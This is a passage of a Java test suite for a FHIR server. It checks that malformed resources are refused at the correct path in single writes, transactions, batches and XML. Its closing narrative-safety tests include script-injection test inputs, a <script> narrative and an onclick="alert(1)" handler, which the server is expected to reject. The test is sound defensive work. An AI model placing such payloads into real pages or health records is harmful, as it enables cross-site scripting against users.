			List<String> validateErrors = errors(validated.as(OperationOutcome.class));
			if (written.status() == 201) {
				assertThat(validateErrors).as(testCase[0] + " was stored, so $validate finds no error").isEmpty();
			} else {
				refused++;
				assertThat(written.status()).as(testCase[0] + ": " + written.body()).isEqualTo(422);
				assertThat(validateErrors).as(testCase[0]).isNotEmpty()
						.containsExactlyInAnyOrderElementsOf(errors(written.as(OperationOutcome.class)));
			}
		}
		assertThat(refused).as("the bad cases").isEqualTo(5);
	}

	@Test
	public void unknownElement_isRefusedWith422NamingIt_alsoInsideATransaction() {
		String condition = fixture("Condition-unknown-element.json", newPatient());
		Response single = fhir.post("/fhir/Condition", condition, FhirHttp.FHIR_JSON);
		assertThat(single.status()).isEqualTo(422);
		assertThat(errors(single.as(OperationOutcome.class))).singleElement().asString()
				.startsWith("[Condition.severityScore]").contains("severityScore");

		String marker = UUID.randomUUID().toString();
		String transaction = """
				{"resourceType": "Bundle", "type": "transaction", "entry": [
				  {"fullUrl": "urn:uuid:%s", "resource": {"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}]},
				   "request": {"method": "POST", "url": "Patient"}},
				  {"resource": %s, "request": {"method": "POST", "url": "Condition"}}
				]}""".formatted(UUID.randomUUID(), TEST_SYSTEM, marker, condition);
		Response refused = fhir.post("/fhir", transaction, FhirHttp.FHIR_JSON);
		assertThat(refused.status()).isEqualTo(422);
		assertThat(errors(refused.as(OperationOutcome.class))).singleElement().asString()
				.startsWith("[Bundle.entry[1].resource.ofType(Condition).severityScore]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * A value HAPI's parser reads but FHIR does not allow is refused with its path, {@code $validate} says the same, a
	 * transaction names the entry, and a batch refuses only that entry: a number or boolean in quotes (or a string
	 * without them), which is not FHIR JSON, on a US Core-profiled IGF-1 whose value is {@code "182"}; and a dateTime
	 * with a time but no time zone, as an HL7 v2 feed converted without its offset writes it, on a Condition no
	 * profile of ours covers (the parser kept it as written, and no other check saw it), and on an IGF-1, whose
	 * {@code $validate} lists it once, not again in the HL7 validator's words; and a Period that ends before it starts
	 * (R4's per-1), which the parser reads and only the full validator checked.
	 */
	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', value = {
		"a quoted number | Observation-igf1-us-core-lab.json | Observation | \"value\": 182 | \"value\": \"182\""
				+ " | .value.ofType(Quantity).value | JSON number",
		"a time without its zone | Condition-onset-local-time.json | Condition | 09:30:00+02:00 | 09:30:00"
				+ " | .onset.ofType(dateTime) | is not a valid dateTime",
		"a time without its zone, on a profiled IGF-1 | Observation-igf1-us-core-lab.json | Observation | 08:15:00Z"
				+ " | 08:15:00 | .effective.ofType(dateTime) | is not a valid dateTime",
		"a period that ends before it starts (per-1) | Condition-onset-local-time.json | Condition"
				+ " | \"onsetDateTime\": \"2019-04-02T09:30:00+02:00\""
				+ " | \"onsetPeriod\": {\"start\": \"2019-04-02\", \"end\": \"2019-03-30\"}"
				+ " | .onset.ofType(Period) | ends before it starts",
	})
	public void aValueTheParserReadsButFhirDoesNotAllow_isRefusedAtItsPath_inEveryWayItCanBeSent(String what,
			String file, String type, String written, String wrong, String pathInResource, String message) {
		String resource = fixture(file, newPatient());
		String path = type + pathInResource;
		assertThat(errors(validate(type, resource, null, null).as(OperationOutcome.class))).isEmpty();
		assertThat(resource).contains(written);
		String bad = resource.replace(written, wrong);

		Response single = fhir.post("/fhir/" + type, bad, FhirHttp.FHIR_JSON);
		assertThat(single.status()).as(single.body()).isEqualTo(422);
		List<String> singleErrors = errors(single.as(OperationOutcome.class));
		assertThat(singleErrors).singleElement().asString().startsWith("[" + path + "]").contains(message);
		Response validated = validate(type, bad, null, null);
		assertThat(errors(validated.as(OperationOutcome.class))).containsExactlyElementsOf(singleErrors);

		String transactionMarker = UUID.randomUUID().toString();
		Response transaction = fhir.post("/fhir", patientAnd("transaction", transactionMarker, type, bad), FhirHttp.FHIR_JSON);
		assertThat(transaction.status()).as(transaction.body()).isEqualTo(422);
		assertThat(errors(transaction.as(OperationOutcome.class))).singleElement().asString()
				.startsWith("[Bundle.entry[1].resource.ofType(" + type + ")" + pathInResource + "]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + transactionMarker).as(Bundle.class)
				.getEntry()).isEmpty();

		String batchMarker = UUID.randomUUID().toString();
		Response batch = fhir.post("/fhir", patientAnd("batch", batchMarker, type, bad), FhirHttp.FHIR_JSON);
		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
		Bundle result = batch.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		assertThat(result.getEntry().get(1).getResponse().getStatus()).startsWith("422");
		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome()))
				.containsExactlyElementsOf(singleErrors);
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + batchMarker).as(Bundle.class).getEntry())
				.hasSize(1);
	}

	/**
	 * {@code xsi:schemaLocation} on the root element, as many XML senders and HL7's older examples write it, carries no
	 * data: the Patient is stored (it got 422 "Unknown attribute"); an attribute FHIR does not have is still refused.
	 */
	@Test
	public void xmlWithASchemaLocation_isAccepted_anUnknownAttributeIsNot() {
		String patient = "<Patient xmlns=\"http://hl7.org/fhir\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
				+ " xsi:schemaLocation=\"http://hl7.org/fhir ../../schema/patient.xsd\"><gender value=\"female\"/></Patient>";

		Response created = fhir.post("/fhir/Patient", patient, "application/fhir+xml");

		assertThat(created.status()).as(created.body()).isEqualTo(201);
		Response unknown = fhir.post("/fhir/Patient", patient.replace("<gender value", "<gender colour=\"red\" value"),
				"application/fhir+xml");
		assertThat(unknown.status()).as(unknown.body()).isEqualTo(422);
	}

	/**
	 * An XML body has no JSON types to get wrong, but its values' written forms are checked as a JSON body's are: a
	 * Condition whose onset has a time without a time zone is refused at that path, and {@code $validate} of the same
	 * XML says the same.
	 */
	@Test
	public void aValueNotOfItsTypesForm_inAnXmlBody_isRefusedAtItsPath_andValidateSaysTheSame() {
		ca.uhn.fhir.parser.IParser xml = FhirHttp.FHIR.newXmlParser();
		String bad = xml.encodeResourceToString(FhirHttp.FHIR.newJsonParser().parseResource(
				fixture("Condition-onset-local-time.json", newPatient()).replace("09:30:00+02:00", "09:30:00")));
		assertThat(bad).contains("2019-04-02T09:30:00\"");

		Response refused = fhir.post("/fhir/Condition", bad, "application/fhir+xml");
		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		List<String> writeErrors = errors(refused.as(OperationOutcome.class));
		assertThat(writeErrors).singleElement().asString().startsWith("[Condition.onset.ofType(dateTime)]")
				.contains("is not a valid dateTime");
		Response validated = fhir.post("/fhir/Condition/$validate", bad, "application/fhir+xml");
		assertThat(validated.status()).as(validated.body()).isEqualTo(200);
		assertThat(errors(validated.as(OperationOutcome.class))).containsExactlyElementsOf(writeErrors);
	}

	/**
	 * An XML transaction with an unknown element in one entry and a value not of its form in another is refused whole,
	 * naming both, each at its entry: the unknown element is placed by parsing each entry's resource element again on
	 * its own (HAPI's parser names only the element).
	 */
	@Test
	public void anXmlTransactionWithAnUnknownElementAndAValueNotOfItsForm_isRefusedWhole_namingBothAtTheirEntries() {
		String marker = UUID.randomUUID().toString();
		String condition = fixture("Condition-onset-local-time.json", newPatient()).replace("09:30:00+02:00", "09:30:00");
		String json = patientAnd("transaction", marker, "Condition", condition);
		ca.uhn.fhir.parser.IParser xml = FhirHttp.FHIR.newXmlParser();
		String body = xml.encodeResourceToString(FhirHttp.FHIR.newJsonParser().parseResource(json))
				.replace("<active value=\"true\"/>", "<active value=\"true\"/><colour value=\"blue\"/>");
		assertThat(body).contains("colour").contains("2019-04-02T09:30:00\"");

		Response refused = fhir.post("/fhir", body, "application/fhir+xml");

		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		assertThat(errors(refused.as(OperationOutcome.class)))
				.anySatisfy(error -> assertThat(error).startsWith("[Bundle.entry[0].resource.ofType(Patient)").contains("colour"))
				.anySatisfy(error -> assertThat(error).startsWith("[Bundle.entry[1].resource.ofType(Condition).onset.ofType(dateTime)]"))
				.hasSize(2);
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * An XML batch's entries stand alone too: an entry with an unknown element is refused (422), one with a value its
	 * type cannot read is refused (400), and a valid one is stored.
	 */
	@Test
	public void anXmlBatch_refusesOnlyTheEntriesWithProblems() {
		String refusedMarker = UUID.randomUUID().toString();
		String storedMarker = UUID.randomUUID().toString();
		String condition = fixture("Condition-onset-local-time.json", newPatient());
		String json = """
				{"resourceType": "Bundle", "type": "batch", "entry": [
				  {"resource": {"resourceType": "Patient", "active": true, "identifier": [{"system": "%1$s", "value": "%2$s"}]},
				   "request": {"method": "POST", "url": "Patient"}},
				  {"resource": %3$s, "request": {"method": "POST", "url": "Condition"}},
				  {"resource": {"resourceType": "Patient", "identifier": [{"system": "%1$s", "value": "%4$s"}]},
				   "request": {"method": "POST", "url": "Patient"}}
				]}""".formatted(TEST_SYSTEM, refusedMarker, condition, storedMarker);
		String body = FhirHttp.FHIR.newXmlParser().encodeResourceToString(FhirHttp.FHIR.newJsonParser().parseResource(json))
				.replace("<active value=\"true\"/>", "<active value=\"true\"/><colour value=\"blue\"/>")
				.replace("2019-04-02T", "2019-04-31T");
		assertThat(body).contains("colour").contains("2019-04-31T");

		Response batch = fhir.post("/fhir", body, "application/fhir+xml");

		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
		List<Bundle.BundleEntryComponent> entries = batch.as(Bundle.class).getEntry();
		assertThat(entries.get(0).getResponse().getStatus()).as(batch.body()).startsWith("422");
		assertThat(errors((OperationOutcome) entries.get(0).getResponse().getOutcome()))
				.singleElement().asString().contains("colour");
		assertThat(entries.get(1).getResponse().getStatus()).as(batch.body()).startsWith("400");
		assertThat(errors((OperationOutcome) entries.get(1).getResponse().getOutcome()))
				.singleElement().asString().contains("2019-04-31");
		assertThat(entries.get(2).getResponse().getStatus()).startsWith("201");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + refusedMarker).as(Bundle.class).getEntry())
				.isEmpty();
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + storedMarker).as(Bundle.class).getEntry())
				.hasSize(1);
	}

	/**
	 * A value its type cannot read (an onset of 2019-04-31) is refused with 400, as HAPI's parser refuses it, but at its
	 * path (the parser names only the element), from the Bundle's root in a transaction, and nothing is stored; so is
	 * it as the body of an update.
	 */
	@ParameterizedTest
	@CsvSource({"create", "update", "transaction"})
	public void aValueItsTypeCannotRead_isRefusedWith400_atItsPath(String how) {
		String marker = UUID.randomUUID().toString();
		String condition = fixture("Condition-onset-local-time.json", newPatient()).replace("2019-04-02T", "2019-04-31T");
		String id = "unreadable-" + marker;

		Response refused = switch (how) {
			case "create" -> fhir.post("/fhir/Condition", condition, FhirHttp.FHIR_JSON);
			case "update" -> fhir.put("/fhir/Condition/" + id,
					condition.replaceFirst("\\{", "{\"id\": \"" + id + "\","), FhirHttp.FHIR_JSON);
			default -> fhir.post("/fhir", patientAnd(how, marker, "Condition", condition), FhirHttp.FHIR_JSON);
		};

		assertThat(refused.status()).as(refused.body()).isEqualTo(400);
		String path = how.equals("transaction")
				? "Bundle.entry[1].resource.ofType(Condition).onset.ofType(dateTime)"
				: "Condition.onset.ofType(dateTime)";
		assertThat(errors(refused.as(OperationOutcome.class))).singleElement().asString().startsWith("[" + path + "]")
				.contains("2019-04-31");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
		assertThat(fhir.get("/fhir/Condition/" + id).status()).isEqualTo(404);
	}

	/**
	 * A batch's entries stand alone, also when one holds a value its type cannot read: that entry is refused with 400
	 * at the value's path, and the other entries are stored (before, the parser stopped there and refused the whole
	 * batch). On a Condition no profile of ours covers, on an IGF-1 our profile covers (so the value is missing when
	 * the write path reads it) and on a Patient's gender, a code off its list.
	 */
	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', value = {
		"a day the month does not have | Condition-onset-local-time.json | Condition | 2019-04-02T | 2019-04-31T"
				+ " | Condition.onset.ofType(dateTime)",
		"an IGF-1 drawn in month 13 | Observation-igf1-us-core-lab.json | Observation | 2026-11-02T08 | 2026-13-02T08"
				+ " | Observation.effective.ofType(dateTime)",
		"a gender off its list | Patient-us-core-generator.json | Patient | \"gender\": \"male\" | \"gender\": \"woman\""
				+ " | Patient.gender",
	})
	public void aValueItsTypeCannotRead_inABatch_refusesOnlyItsEntry_with400_atItsPath(String what, String file,
			String type, String written, String wrong, String path) {
		String resource = fixture(file, newPatient());
		assertThat(resource).contains(written);
		String batchMarker = UUID.randomUUID().toString();

		Response batch = fhir.post("/fhir", patientAnd("batch", batchMarker, type, resource.replace(written, wrong)),
				FhirHttp.FHIR_JSON);

		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
		Bundle result = batch.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		assertThat(result.getEntry().get(1).getResponse().getStatus()).as(batch.body()).startsWith("400");
		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome())).singleElement()
				.asString().startsWith("[" + path + "]").contains(wrong.replace("\"", "").replaceAll(".*: ", ""));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + batchMarker).as(Bundle.class).getEntry())
				.hasSize(1);
	}

	/**
	 * A resource with two values its type cannot read names each at its path, not only the first the parser met, and
	 * is not stored.
	 */
	@Test
	public void everyValueItsTypeCannotRead_inAResource_isNamedAtItsPath() {
		String marker = UUID.randomUUID().toString();
		String patient = """
				{"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}], "gender": "woman",
				 "birthDate": "1980-02-30"}""".formatted(TEST_SYSTEM, marker);

		Response refused = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON);

		assertThat(refused.status()).as(refused.body()).isEqualTo(400);
		assertThat(errors(refused.as(OperationOutcome.class))).extracting(error -> error.substring(0, error.indexOf("] ") + 1))
				.containsExactlyInAnyOrder("[Patient.gender]", "[Patient.birthDate]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * A transaction with values their types cannot read in two entries names each at its path, not only the first the
	 * parser met, and stores nothing.
	 */
	@Test
	public void everyValueItsTypeCannotRead_inATransaction_isNamedAtItsPath() {
		String marker = UUID.randomUUID().toString();
		String condition = fixture("Condition-onset-local-time.json", newPatient()).replace("2019-04-02T", "2019-04-31T");
		String body = patientAnd("transaction", marker, "Condition", condition)
				.replace("\"active\": true,", "\"active\": true, \"birthDate\": \"1980-02-30\",");

		Response refused = fhir.post("/fhir", body, FhirHttp.FHIR_JSON);

		assertThat(refused.status()).as(refused.body()).isEqualTo(400);
		assertThat(errors(refused.as(OperationOutcome.class))).extracting(error -> error.substring(0, error.indexOf("] ") + 1))
				.containsExactlyInAnyOrder("[Bundle.entry[0].resource.ofType(Patient).birthDate]",
						"[Bundle.entry[1].resource.ofType(Condition).onset.ofType(dateTime)]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * An extension with both a value and extensions of its own (R4's ext-1) stops HAPI's parser, which refuses the
	 * body with 400 without saying where; the answer names it at its path, from the Bundle's root in a transaction,
	 * and nothing is stored.
	 */
	@ParameterizedTest
	@CsvSource({"single", "transaction"})
	public void anExtensionWithBothAValueAndExtensions_isRefusedWith400_atItsPath(String how) {
		String marker = UUID.randomUUID().toString();
		String condition = conditionWithAnExtensionWithBoth(newPatient());
		boolean single = how.equals("single");

		Response refused = single
				? fhir.post("/fhir/Condition", condition, FhirHttp.FHIR_JSON)
				: fhir.post("/fhir", patientAnd(how, marker, "Condition", condition), FhirHttp.FHIR_JSON);

		assertThat(refused.status()).as(refused.body()).isEqualTo(400);
		String path = (single ? "Condition" : "Bundle.entry[1].resource.ofType(Condition)") + ".extension[0]";
		assertThat(errors(refused.as(OperationOutcome.class))).anySatisfy(error ->
				assertThat(error).startsWith("[" + path + "]").contains("ext-1"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/**
	 * In a JSON batch, an entry with an extension that has both a value and extensions of its own is refused alone,
	 * with 422 at the extension's path; the other entries are stored (before, the parser stopped there and refused
	 * the whole batch with 400).
	 */
	@Test
	public void anExtensionWithBothAValueAndExtensions_inABatch_refusesOnlyItsEntry_with422_atItsPath() {
		String marker = UUID.randomUUID().toString();
		String patientId = newPatient();
		String condition = conditionWithAnExtensionWithBoth(patientId);

		Response batch = fhir.post("/fhir", patientAnd("batch", marker, "Condition", condition), FhirHttp.FHIR_JSON);

		assertThat(batch.status()).as(batch.body()).isEqualTo(200);
		Bundle result = batch.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		assertThat(result.getEntry().get(1).getResponse().getStatus()).as(batch.body()).startsWith("422");
		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome())).anySatisfy(error ->
				assertThat(error).startsWith("[Condition.extension[0]]").contains("ext-1"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry())
				.hasSize(1);
		assertThat(fhir.get("/fhir/Condition?subject=Patient/" + patientId).as(Bundle.class).getEntry()).isEmpty();
	}

	/** A Condition of a new patient with an extension that has both a value and extensions of its own (R4's ext-1). */
	private static String conditionWithAnExtensionWithBoth(String patientId) {
		return fixture("Condition-onset-local-time.json", patientId).replace("\"recordedDate\"",
				"\"extension\": [{\"url\": \"http://example.org/fhir/StructureDefinition/source\","
				+ " \"valueString\": \"old system\", \"extension\": [{\"url\": \"part\", \"valueString\": \"x\"}]}],"
				+ " \"recordedDate\"");
	}

	/**
	 * An extension without its url, a contained resource without its id, an empty value and an internal reference to no
	 * contained resource, in an entry of a transaction: each is refused at its place from the Bundle's root (HAPI's
	 * parser named only "extension", nothing, "note" and the reference's text), and nothing is stored.
	 */
	@Test
	public void partsTheParserNamesWithoutAPlace_areRefusedAtTheirPaths_insideATransaction() {
		String marker = UUID.randomUUID().toString();
		String condition = fixture("Condition-onset-local-time.json", newPatient()).replace("\"recordedDate\"",
				"\"extension\": [{\"valueString\": \"from the old system\"}],"
				+ " \"contained\": [{\"resourceType\": \"Practitioner\", \"active\": true}],"
				+ " \"note\": [{\"text\": \"\"}], \"asserter\": {\"reference\": \"#nobody\"}, \"recordedDate\"");

		Response refused = fhir.post("/fhir", patientAnd("transaction", marker, "Condition", condition), FhirHttp.FHIR_JSON);

		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		String entry = "Bundle.entry[1].resource.ofType(Condition)";
		assertThat(errors(refused.as(OperationOutcome.class))).extracting(error -> error.substring(0, error.indexOf("] ") + 1))
				.containsExactlyInAnyOrder("[" + entry + ".extension[0]]", "[" + entry + ".contained[0]]",
						"[" + entry + ".note[0].text]", "[" + entry + ".asserter.reference]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();
	}

	/** A JSON Bundle of the given type: a new Patient with the marker as its identifier, then the resource. */
	private static String patientAnd(String bundleType, String marker, String resourceType, String resource) {
		return """
				{"resourceType": "Bundle", "type": "%s", "entry": [
				  {"resource": {"resourceType": "Patient", "active": true, "identifier": [{"system": "%s", "value": "%s"}]},
				   "request": {"method": "POST", "url": "Patient"}},
				  {"resource": %s, "request": {"method": "POST", "url": "%s"}}
				]}""".formatted(bundleType, TEST_SYSTEM, marker, resource, resourceType);
	}

	/**
	 * A batch's entries stand alone: an unknown element in one refuses that entry with what and where, and the others
	 * are stored (before, the whole batch was refused with 422). An unknown element in the Bundle itself still
	 * refuses the whole batch.
	 */
	@Test
	public void unknownElementInOneBatchEntry_refusesThatEntryOnly() {
		String marker = UUID.randomUUID().toString();
		String condition = fixture("Condition-unknown-element.json", newPatient());
		String batch = """
				{"resourceType": "Bundle", "type": "batch", "entry": [
				  {"resource": {"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}]},
				   "request": {"method": "POST", "url": "Patient"}},
				  {"resource": %s, "request": {"method": "POST", "url": "Condition"}}
				]}""".formatted(TEST_SYSTEM, marker, condition);

		Response response = fhir.post("/fhir", batch, FhirHttp.FHIR_JSON);

		assertThat(response.status()).as(response.body()).isEqualTo(200);
		Bundle result = response.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		assertThat(result.getEntry().get(1).getResponse().getStatus()).startsWith("422");
		assertThat(errors((OperationOutcome) result.getEntry().get(1).getResponse().getOutcome()))
				.singleElement().asString().startsWith("[Condition.severityScore]");
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).hasSize(1);

		Response wholeRefused = fhir.post("/fhir", batch.replace("\"type\": \"batch\",", "\"type\": \"batch\", \"colour\": \"blue\","),
				FhirHttp.FHIR_JSON);
		assertThat(wholeRefused.status()).as(wholeRefused.body()).isEqualTo(422);
		assertThat(errors(wholeRefused.as(OperationOutcome.class))).anySatisfy(error -> assertThat(error).contains("colour"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).hasSize(1);
	}

	@Test
	public void refusedBatchEntry_listsTheErrorsThatRefusedIt() {
		String patientId = newPatient();
		Bundle batch = new Bundle().setType(Bundle.BundleType.BATCH);
		batch.addEntry().setResource(FhirHttp.FHIR.newJsonParser().parseResource(Patient.class,
						fixture("Patient-us-core-generator.json", UUID.randomUUID().toString())))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Patient");
		batch.addEntry().setResource(FhirHttp.FHIR.newJsonParser().parseResource(Observation.class,
						fixture("Observation-igf1-us-core-lab-mgdl.json", patientId)))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");

		Response response = fhir.postResource("/fhir", batch);

		assertThat(response.status()).isEqualTo(200);
		Bundle result = response.as(Bundle.class);
		assertThat(result.getEntry().get(0).getResponse().getStatus()).startsWith("201");
		Bundle.BundleEntryResponseComponent refused = result.getEntry().get(1).getResponse();
		assertThat(refused.getStatus()).startsWith("422");
		OperationOutcome outcome = (OperationOutcome) refused.getOutcome();
		assertThat(outcome.getIssue().get(0).getSeverity()).isEqualTo(IssueSeverity.ERROR);
		assertThat(errors(outcome)).anySatisfy(error -> assertThat(error).contains("igf1-1"));
		assertThat(outcome.getIssue()).anySatisfy(issue -> {
			assertThat(issue.getSeverity()).isEqualTo(IssueSeverity.WARNING);
			assertThat(issue.getDiagnostics()).contains("us-core-observation-lab");
		});
	}

	@Test
	public void refusedTransaction_namesTheEntryThatRefusedIt_fromTheBundleRoot() {
		String patientId = newPatient();
		Bundle transaction = new Bundle().setType(Bundle.BundleType.TRANSACTION);
		for (int i = 0; i < 3; i++) {
			transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
					.setResource(new Patient().addIdentifier(new org.hl7.fhir.r4.model.Identifier()
							.setSystem(TEST_SYSTEM).setValue(UUID.randomUUID().toString())))
					.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Patient");
		}
		transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
				.setResource(FhirHttp.FHIR.newJsonParser().parseResource(Observation.class,
						fixture("Observation-igf1-us-core-lab-mgdl.json", patientId)))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");

		Response refused = fhir.postResource("/fhir", transaction);

		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		List<String> errors = errors(refused.as(OperationOutcome.class));
		assertThat(errors).isNotEmpty().allSatisfy(error -> assertThat(error).startsWith("[Bundle.entry[3].resource.ofType(Observation)"));
		assertThat(errors).anySatisfy(error -> assertThat(error).contains("igf1-1"));
	}

	@Test
	public void refusedTransaction_listsTheErrorsOfEveryRefusedEntry_andStoresNothing() {
		String patientId = newPatient();
		String marker = UUID.randomUUID().toString();
		Bundle transaction = new Bundle().setType(Bundle.BundleType.TRANSACTION);
		for (int i = 0; i < 4; i++) {
			boolean bad = i == 1 || i == 3;
			transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
					.setResource(bad
							? FhirHttp.FHIR.newJsonParser().parseResource(Observation.class,
									fixture("Observation-igf1-us-core-lab-mgdl.json", patientId))
							: new Patient().addIdentifier(new org.hl7.fhir.r4.model.Identifier()
									.setSystem(TEST_SYSTEM).setValue(marker)))
					.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl(bad ? "Observation" : "Patient");
		}

		Response refused = fhir.postResource("/fhir", transaction);

		assertThat(refused.status()).as(refused.body()).isEqualTo(422);
		List<String> errors = errors(refused.as(OperationOutcome.class));
		assertThat(errors).anySatisfy(error -> assertThat(error)
				.startsWith("[Bundle.entry[1].resource.ofType(Observation)").contains("igf1-1"));
		assertThat(errors).anySatisfy(error -> assertThat(error)
				.startsWith("[Bundle.entry[3].resource.ofType(Observation)").contains("igf1-1"));
		assertThat(errors).allSatisfy(error -> assertThat(error).matches("(?s)\\[Bundle\\.entry\\[[13]\\].*"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry())
				.isEmpty();
	}

	@Test
	public void transactionThatHapiRefusesAfterARefusedEntry_answersWithHapisErrorAndTheEntrysErrors_andStoresNothing() {
		String patientId = newPatient();
		String marker = UUID.randomUUID().toString();
		String missing = "missing-" + UUID.randomUUID();
		Bundle transaction = new Bundle().setType(Bundle.BundleType.TRANSACTION);
		transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
				.setResource(FhirHttp.FHIR.newJsonParser().parseResource(Observation.class,
						fixture("Observation-igf1-us-core-lab-mgdl.json", patientId)))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");
		transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
				.setResource(new Patient().addIdentifier(new org.hl7.fhir.r4.model.Identifier()
						.setSystem(TEST_SYSTEM).setValue(marker)))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Patient");
		transaction.addEntry().setFullUrl("urn:uuid:" + UUID.randomUUID())
				.setResource(FhirHttp.FHIR.newJsonParser().parseResource(Observation.class,
						fixture("Observation-igf1-us-core-lab.json", missing)))
				.getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");

		Response refused = fhir.postResource("/fhir", transaction);

		assertThat(refused.status()).as(refused.body()).isBetween(400, 499).isNotEqualTo(422);
		List<String> errors = errors(refused.as(OperationOutcome.class));
		assertThat(errors).as("HAPI's own error, first").first().asString().contains(missing);
		assertThat(errors).anySatisfy(error -> assertThat(error)
				.startsWith("[Bundle.entry[0].resource.ofType(Observation)").contains("igf1-1"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry())
				.isEmpty();
	}

	// ---- narrative safety (txt-1, txt-2) on resources with and without a held profile ----

	@Test
	public void usCorePatientWithAGeneratedTableNarrative_isStored() {
		String marker = UUID.randomUUID().toString();
		Response created = fhir.post("/fhir/Patient", fixture("Patient-us-core-generated-narrative.json", marker), FhirHttp.FHIR_JSON);
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		Patient stored = fhir.get(location(created)).as(Patient.class);
		assertThat(stored.getText().getDivAsString()).contains("<table", "14 March 1975");
	}

	@Test
	public void patientWithScriptInItsNarrative_isRefusedWith422AtTheDiv_notStored_andValidateAgrees() {
		String marker = UUID.randomUUID().toString();
		String patient = scriptedPatient(marker);

		Response written = fhir.post("/fhir/Patient", patient, FhirHttp.FHIR_JSON);

		assertThat(written.status()).as(written.body()).isEqualTo(422);
		List<String> writeErrors = errors(written.as(OperationOutcome.class));
		assertThat(writeErrors).anySatisfy(error -> assertThat(error).startsWith("[Patient.text.div]").contains("<script>"));
		assertThat(fhir.get("/fhir/Patient?identifier=" + TEST_SYSTEM + "%7C" + marker).as(Bundle.class).getEntry()).isEmpty();

		Response validated = validate("Patient", patient, null, null);
		assertThat(validated.status()).isEqualTo(200);
		assertThat(errors(validated.as(OperationOutcome.class))).containsExactlyInAnyOrderElementsOf(writeErrors);
	}

	@Test
	public void scriptInANarrative_refusesTheWholeTransaction_andOnlyItsEntryOfABatch() {
		String marker = UUID.randomUUID().toString();
		String condition = """
				{"resourceType": "Condition",
				 "text": {"status": "generated", "div": "<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p onclick=\\"alert(1)\\">Asthma</p></div>"},
				 "code": {"text": "Asthma"}, "subject": {"reference": "urn:uuid:%s"}}""";
		String patientUuid = UUID.randomUUID().toString();
		String entries = """
				[{"fullUrl": "urn:uuid:%s", "resource": {"resourceType": "Patient", "identifier": [{"system": "%s", "value": "%s"}]},
				  "request": {"method": "POST", "url": "Patient"}},
				 {"resource": %s, "request": {"method": "POST", "url": "Condition"}}]""".formatted(
				patientUuid, TEST_SYSTEM, marker, condition.formatted(patientUuid));

		Response transaction = fhir.post("/fhir", "{\"resourceType\": \"Bundle\", \"type\": \"transaction\", \"entry\": " + entries + "}",
